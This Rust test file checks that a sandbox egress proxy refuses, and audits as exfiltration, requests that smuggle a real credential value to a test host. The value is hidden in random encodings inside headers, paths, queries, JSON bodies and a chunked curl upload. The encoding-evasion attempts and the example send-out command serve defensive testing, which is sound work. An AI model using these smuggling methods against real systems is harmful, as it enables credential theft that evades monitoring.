//! Exfiltration of a real value: a sandbox that got hold of a credential's real value (it never
//! should) and sends it in any encoded form, to a host the credential is not bound to or to the
//! bound host outside the declared place, is refused before a byte of it leaves, and the
//! refusal is audited as exfiltration, naming the credential and the place.
//!
//! As an attacker would: a random value, a random encoding (at a random offset inside a longer
//! base64 stream), in a header with a random name, the path, the query, a small body and a
//! large streamed one. Real parts, as root: network namespaces, the proxy, a TLS upstream.

use testkit::egress::*;
use testkit::reflect::{below, holds, random_value, revealing};

/// Encodings that fit in a path or query without further escaping.
const URL_FORMS: &[&str] = &[
    "hex", "hexmix", "b64url", "b64urlnp", "pct", "pctlow", "pctu",
];
/// Encodings for headers and bodies.
const TEXT_FORMS: &[&str] = &[
    "raw",
    "b64",
    "b64np",
    "hex",
    "hexmix",
    "pct",
    "form",
    "json",
    "jsonslash",
    "jsonu",
];

/// (place, path, headers, body) of one attempt.
type Try<'a> = (&'a str, &'a str, &'a [(&'a str, &'a [u8])], Vec<u8>);

fn pick<'a>(forms: &[&'a str]) -> &'a str {
    forms[below(forms.len())]
}

/// `value` in `form`, after `pre` random bytes (every base64 alignment over the runs), and what
/// of it reveals the value.
fn disguise(form: &str, value: &str) -> (String, Vec<u8>) {
    let pre: Vec<u8> = (0..below(5)).map(|_| b'a' + below(26) as u8).collect();
    let text = testkit::reflect::encode(form, &[&pre[..], value.as_bytes()].concat());
    let leak = revealing(form, &pre, value.as_bytes(), b"");
    (String::from_utf8(text).unwrap(), leak)
}

#[test]
fn a_real_value_in_any_form_is_refused_before_it_leaves() {
    testkit::privileged(
        "a_real_value_in_any_form_is_refused_before_it_leaves",
        4,
        || async {
            let value = random_value(16 + below(32));
            let fx =
                Fixture::with_values(limits(), [&value, "pw-basic-7a1b2c3d4e", "qk-3f2e1d0c9b"])
                    .await;
            let mut leaks = Vec::new();
            let mut refusals = 0;
            for host in ["other.test.example", "api.test.example"] {
                for h2 in [false, true] {
                    let header_name: String = std::iter::once("x-".to_owned())
                        .chain((0..8).map(|_| ((b'a' + below(26) as u8) as char).to_string()))
                        .collect();
                    let (in_header, l1) = disguise(pick(TEXT_FORMS), &value);
                    let (in_path, l2) = disguise(pick(URL_FORMS), &value);
                    let (in_query, l3) = disguise(pick(URL_FORMS), &value);
                    let (in_body, l4) = disguise(pick(TEXT_FORMS), &value);
                    leaks.extend([l1, l2, l3, l4]);
                    let path = format!("/files/{in_path}");
                    let query = format!("/search?q={in_query}");
                    let json = format!("{{\"note\":\"{in_body}\"}}").into_bytes();
                    let header = [(header_name.as_str(), in_header.as_bytes())];
                    let tries: [Try; 4] = [
                        ("header", "/", &header, Vec::new()),
                        ("path", &path, &[], Vec::new()),
                        ("query", &query, &[], Vec::new()),
                        ("body", "/sum", &[], json),
                    ];
                    for (place, path, headers, body) in tries {
                        let before = fx.upstream.seen().len();
                        let method = if body.is_empty() { "GET" } else { "POST" };
                        let r = send(&fx, host, h2, method, path, headers, body).await;
                        assert_eq!(r.status, 403, "{host} {place} h2={h2}");
                        assert_eq!(
                            fx.upstream.seen().len(),
                            before,
                            "{host} {place}: the request reached the upstream"
                        );
                        refusals += 1;
                    }
                }
            }

            // A large body streamed with no declared length: cut before the value's bytes leave.
            let (in_stream, leak) = disguise(pick(TEXT_FORMS), &value);
            leaks.push(leak);
            let big = fx.dir.path().join("big-with-value");
            let mut data = vec![b'z'; (2 << 20) + below(1 << 20)];
            data.extend_from_slice(in_stream.as_bytes());
            data.extend_from_slice(&vec![b'z'; 1 << 20]);
            std::fs::write(&big, &data).unwrap();
            let streamed = fx.curl(&[
                "-o",
                "/dev/null",
                "-w",
                "%{http_code}",
                "-H",
                "Transfer-Encoding: chunked",
                "--data-binary",
                &format!("@{}", big.display()),
                "https://other.test.example/sum",
            ]);
            assert_ne!(streamed.text(), "200", "streamed exfiltration went through");

            for leak in &leaks {
                assert!(
                    !fx.upstream
                        .seen()
                        .iter()
                        .any(|s| holds(&s.all_bytes(), leak)),
                    "{:?} reached the upstream",
                    String::from_utf8_lossy(leak)
                );
            }
            let events = fx.audit().await;
            let exfil: Vec<_> = events
                .iter()
                .filter(|e| {
                    e.action == "egress.denied"
                        && e.detail.contains("exfiltration: a real credential value")
                        && e.detail.contains("credential=API_TOKEN")
                })
                .collect();
            assert!(exfil.len() > refusals, "{exfil:#?}");
            for place in ["place=header", "place=path", "place=query", "place=body"] {
                assert!(exfil.iter().any(|e| e.detail.contains(place)), "no {place}");
            }
            assert!(events.iter().all(|e| !e.detail.contains(&value)));
        },
    );
}
